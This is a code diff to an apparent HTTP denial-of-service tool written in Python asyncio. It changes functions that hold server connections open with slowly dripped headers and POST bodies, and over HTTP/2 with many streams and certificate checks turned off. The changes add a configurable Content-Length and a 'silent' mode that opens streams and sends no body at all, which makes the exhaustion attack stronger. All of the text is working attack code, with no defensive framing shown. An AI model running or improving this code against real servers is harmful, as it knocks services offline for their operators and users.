@@ -124,9 +124,9 @@ async def slow_headers(attack: Attack, count: int, seconds: float) -> None:
     await drip(attack, count, seconds, head, b"X-A: b\r\n")
 
 
-async def slow_body(attack: Attack, count: int, seconds: float) -> None:
+async def slow_body(attack: Attack, count: int, seconds: float, length: int = 100000) -> None:
     """Announce a body and send it byte by byte."""
-    head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 100000\r\n\r\n".encode()
+    head = f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: {length}\r\n\r\n".encode()
     await drip(attack, count, seconds, head, b"x")
 
 
@@ -135,8 +135,10 @@ def frame2(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
     return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream) + payload
 
 
-async def slow_streams(attack: Attack, count: int, seconds: float, streams: int, host: str) -> None:
-    """Over HTTP/2, begin so many POSTs on each connection and send their bodies byte by byte."""
+async def slow_streams(
+    attack: Attack, count: int, seconds: float, streams: int, host: str, silent: bool = False
+) -> None:
+    """Over HTTP/2, begin so many POSTs on each connection and send their bodies byte by byte, or not at all."""
     context = ssl.create_default_context()
     context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
     context.set_alpn_protocols(["h2"])
@@ -146,7 +148,7 @@ async def slow_streams(attack: Attack, count: int, seconds: float, streams: int,
     numbers = range(1, 2 * streams, 2)
     head = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame2(4, 0, 0) + frame2(4, 1, 0)
     head += b"".join(frame2(1, 4, number, headers) for number in numbers)
-    drop = b"".join(frame2(0, 0, number, b"x") for number in numbers)
+    drop = b"" if silent else b"".join(frame2(0, 0, number, b"x") for number in numbers)
     await drip(attack, count, seconds, head, drop, closed, ssl=context, server_hostname=host)
 
 
